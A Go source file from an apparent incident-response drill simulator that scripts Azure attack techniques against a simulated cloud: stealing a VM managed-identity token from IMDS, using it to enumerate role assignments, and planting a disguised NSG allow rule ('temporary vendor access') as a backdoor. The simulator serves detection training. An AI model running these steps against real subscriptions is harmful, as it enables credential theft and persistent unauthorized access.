package attacker

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/arm"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/cloud"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/to"
	"github.com/Azure/azure-sdk-for-go/sdk/resourcemanager/authorization/armauthorization/v2"
	"github.com/Azure/azure-sdk-for-go/sdk/resourcemanager/compute/armcompute/v8"
	"github.com/Azure/azure-sdk-for-go/sdk/resourcemanager/network/armnetwork/v9"

	"github.com/firedrill-ir/firedrill/cloudsim/simhttp"
)

// CloudAzure is Azure as techniques and events name it.
const CloudAzure = "azure"

// Azure technique ids.
const (
	AzureExploitWebApp = "azure.vm.exploit-web-app"
	AzureCryptoMiner   = "azure.vm.start-cryptominer"
	AzureStealMIToken  = "azure.vm.steal-managed-identity-token"
	AzureBackdoorNSG   = "azure.network.backdoor-nsg"
	AzureKeepAccess    = "azure.keep-access"
	// AzureRoutineCalls is an application's ordinary ARM reads.
	AzureRoutineCalls = "azure.routine-api-calls"
	// AzureWebClients are the users of the web tier.
	AzureWebClients = "azure.web-clients"
	// AzureFleetIdentityCalls are the scale set's other VMs calling with
	// their managed identities.
	AzureFleetIdentityCalls = "azure.fleet-identity-calls"
)

// azureARMAudience is the audience ARM tokens carry.
const azureARMAudience = "https://management.azure.com/"

const labelStolenToken = "stolen-token"

func init() {
	registerVMAttack(vmAttack{Cloud: CloudAzure, Exploit: AzureExploitWebApp, Miner: AzureCryptoMiner, Steal: AzureStealMIToken,
		KeepAccess: AzureKeepAccess,
		// Autoscale's default scale-in policy removes the highest instance
		// id first: the newest VM.
		FirstToScaleIn: "newest",
		Metadata: stealSpec{Operation: "imds:GetManagedIdentityToken", Path: "/metadata/identity/oauth2/token",
			Label: labelStolenToken, Detail: map[string]string{"resource": azureARMAudience},
			Description: "the managed identity's ARM token, from IMDS", Use: (*Env).azureGetVM, Probe: azureTokenProbe},
	}, azureBackdoorNSG(), routineAzure(), webClients(CloudAzure, AzureWebClients), fleetCalls(CloudAzure, fleetSpec{
		ID: AzureFleetIdentityCalls, Name: "ARM calls of the scale set's other VMs with their managed identities",
		Operation: "Microsoft.Compute/virtualMachines/read",
		// MSAL's managed-identity client (under azidentity) refreshes a token
		// that lives longer than two hours at half its lifetime: a 24-hour
		// IMDS token after 12 hours. azcore refreshes 5 minutes before
		// expiry otherwise.
		MaxAge: 12 * time.Hour, Early: 5 * time.Minute,
		Call: func(ctx context.Context, a *Actor, caller Caller, c *Credential, vm string) error {
			// The application reads its own VM (its tags, its scale set).
			vms, err := armcompute.NewVirtualMachinesClient(a.Target.Account, bearer{c.Token}, azureOptions(a.Clock, a.Target, caller))
			if err == nil {
				_, err = vms.Get(ctx, a.Target.Prop("resource_group"), armName(vm), nil)
			}
			return err
		}}))
}

// bearer is an azcore credential that hands out one access token. Its
// expiry is far in the future on purpose: whether the token still works is
// for the simulated Entra ID and ARM to decide at each call (on the drill
// clock), not for azcore's wall-clock cache.
type bearer struct{ token string }

func (b bearer) GetToken(context.Context, policy.TokenRequestOptions) (azcore.AccessToken, error) {
	return azcore.AccessToken{Token: b.token, ExpiresOn: time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)}, nil
}

// azureOptions are the ARM client options of a caller: the simulator's
// endpoint, the caller's marking transport charging modelled latency on the
// drill clock, and no SDK retries (which would sleep on the wall clock; a
// throttled call is simply recorded as failed).
func azureOptions(clk simhttp.Sleeper, t *Target, caller Caller) *arm.ClientOptions {
	base := strings.TrimSuffix(t.Endpoint, "/")
	return &arm.ClientOptions{DisableRPRegistration: true, ClientOptions: policy.ClientOptions{
		Cloud: cloud.Configuration{ActiveDirectoryAuthorityHost: base + "/",
			Services: map[cloud.ServiceName]cloud.ServiceConfiguration{cloud.ResourceManager: {Endpoint: base, Audience: azureARMAudience}}},
		Transport: &http.Client{Transport: caller.transport(clk, t, nil)},
		Retry:     policy.RetryOptions{MaxRetries: -1},
	}}
}

// armName is the last segment of an ARM id.
func armName(id string) string { return id[strings.LastIndex(id, "/")+1:] }

// azureGetVM is the attacker's "whoami" with a stolen token: read the VM it
// came from. Any ARM read needs a role assignment, so success proves the
// token still grants something.
func (e *Env) azureGetVM(ctx context.Context, technique, vmID string, c *Credential) error {
	t, err := e.Target(CloudAzure)
	if err == nil {
		var vms *armcompute.VirtualMachinesClient
		if vms, err = armcompute.NewVirtualMachinesClient(t.Account, bearer{c.Token}, azureOptions(e.Clock, t, e.Caller())); err == nil {
			_, err = vms.Get(ctx, t.Prop("resource_group"), armName(vmID), nil)
		}
	}
	return e.Record(Action{Technique: technique, Operation: "Microsoft.Compute/virtualMachines/read", Resource: vmID,
		Cloud: CloudAzure, Credential: c.Label}, err)
}

// azureReadNSG reads the foothold's NSG with a token.
func (e *Env) azureReadNSG(ctx context.Context, r Round, c *Credential) error {
	nsgID := e.State.In(CloudAzure).Facts["network_security_group"]
	t, err := e.Target(CloudAzure)
	if err == nil {
		var nsgs *armnetwork.SecurityGroupsClient
		if nsgs, err = armnetwork.NewSecurityGroupsClient(t.Account, bearer{c.Token}, azureOptions(e.Clock, t, e.Caller())); err == nil {
			_, err = nsgs.Get(ctx, t.Prop("resource_group"), armName(nsgID), nil)
		}
	}
	return e.Record(Action{Technique: r.Technique, Operation: "Microsoft.Network/networkSecurityGroups/read", Resource: nsgID,
		Cloud: CloudAzure, Credential: c.Label, Detail: finalDetail(r, nil)}, err)
}

// azureTokenProbe: each round the stolen token lists the resource group's
// role assignments and reads the web NSG; at the final check it reads the
// NSG alone.
func azureTokenProbe(c *Credential) Probe {
	return func(ctx context.Context, env *Env, r Round) Outcome {
		if !r.Final {
			env.azureListAssignments(ctx, r.Technique, c)
		}
		return outcome(env.azureReadNSG(ctx, r, c))
	}
}

func (e *Env) azureListAssignments(ctx context.Context, technique string, c *Credential) {
	t, err := e.Target(CloudAzure)
	if err != nil {
		return
	}
	scope := "/subscriptions/" + t.Account + "/resourceGroups/" + t.Prop("resource_group")
	n, err := listAssignments(ctx, azureOptions(e.Clock, t, e.Caller()), t.Account, scope, c)
	d := map[string]string{}
	if err == nil {
		d["assignments"] = fmt.Sprint(n)
	}
	_ = e.Record(Action{Technique: technique, Operation: "Microsoft.Authorization/roleAssignments/read", Resource: scope,
		Cloud: CloudAzure, Credential: c.Label, Detail: d}, err)
}

// listAssignments counts the role assignments at scope.
func listAssignments(ctx context.Context, opts *arm.ClientOptions, sub, scope string, c *Credential) (int, error) {
	ras, err := armauthorization.NewRoleAssignmentsClient(sub, bearer{c.Token}, opts)
	if err != nil {
		return 0, fmt.Errorf("building the role assignments client: %w", err)
	}
	n := 0
	for pg := ras.NewListForScopePager(scope, nil); pg.More(); {
		page, err := pg.NextPage(ctx)
		if err != nil {
			return n, err
		}
		n += len(page.Value)
	}
	return n, nil
}

// azureBackdoorNSG uses the stolen token's Contributor role to add an
// inbound rule for the attacker's address to the NSG in front of its
// foothold.
func azureBackdoorNSG() *Technique {
	return backdoorRule(CloudAzure, AzureBackdoorNSG, azureRuleWrite,
		[]ParamSpec{{Name: "priority", Kind: KindInt, Default: "105", Doc: "rule priority (lower wins)"}},
		func(ctx context.Context, env *Env, t *Target, hold *Holding, c *Credential, p Params) (planted, error) {
			nsgID := hold.Facts["network_security_group"]
			rule := fmt.Sprintf("AllowMgmt-%s", env.ShortID())
			// One rule added as 'az network nsg rule create' adds it: a PUT
			// of the rule alone, which the Activity Log names.
			rules, err := armnetwork.NewSecurityRulesClient(t.Account, bearer{c.Token}, azureOptions(env.Clock, t, env.Caller()))
			if err == nil {
				// The simulator applies the PUT on the initial request and
				// answers it terminal, so there is nothing to poll.
				_, err = rules.BeginCreateOrUpdate(ctx, t.Prop("resource_group"), armName(nsgID), rule, armnetwork.SecurityRule{
					Properties: &armnetwork.SecurityRulePropertiesFormat{
						Priority: to.Ptr(int32(p.Int("priority"))), Direction: to.Ptr(armnetwork.SecurityRuleDirectionInbound),
						Access: to.Ptr(armnetwork.SecurityRuleAccessAllow), Protocol: to.Ptr(armnetwork.SecurityRuleProtocolTCP),
						SourceAddressPrefix: to.Ptr(env.SourceIP + "/32"), SourcePortRange: to.Ptr("*"),
						DestinationAddressPrefix: to.Ptr("*"), DestinationPortRange: to.Ptr(fmt.Sprint(p.Int("port"))),
						Description: to.Ptr("temporary vendor access"),
					}}, nil)
			}
			return planted{rule: nsgID + "/securityRules/" + rule, what: "NSG rule " + rule, resource: nsgID,
				detail: map[string]string{"rule": rule}}, err
		})
}

// azureRuleWrite is the operation that adds an NSG rule.
const azureRuleWrite = "Microsoft.Network/networkSecurityGroups/securityRules/write"

// routineAzure is an application's ordinary ARM reads of the web tier.
func routineAzure() *Technique {
	return routine(CloudAzure, AzureRoutineCalls, "Routine ARM reads of an application", []routineCall{
		{"Microsoft.Compute/virtualMachines/read", func(ctx context.Context, a *Actor, _ Params, _ int) error {
			vms, err := armcompute.NewVirtualMachinesClient(a.Target.Account, bearer{a.Credential.Token}, azureOptions(a.Clock, a.Target, a.Caller))
			if err == nil {
				_, err = vms.Get(ctx, a.Target.Prop("resource_group"), armName(a.groupMember()), nil)
			}
			return err
		}},
		{"Microsoft.Authorization/roleAssignments/read", func(ctx context.Context, a *Actor, _ Params, _ int) error {
			_, err := listAssignments(ctx, azureOptions(a.Clock, a.Target, a.Caller), a.Target.Account,
				"/subscriptions/"+a.Target.Account+"/resourceGroups/"+a.Target.Prop("resource_group"), a.Credential)
			return err
		}},
	})
}
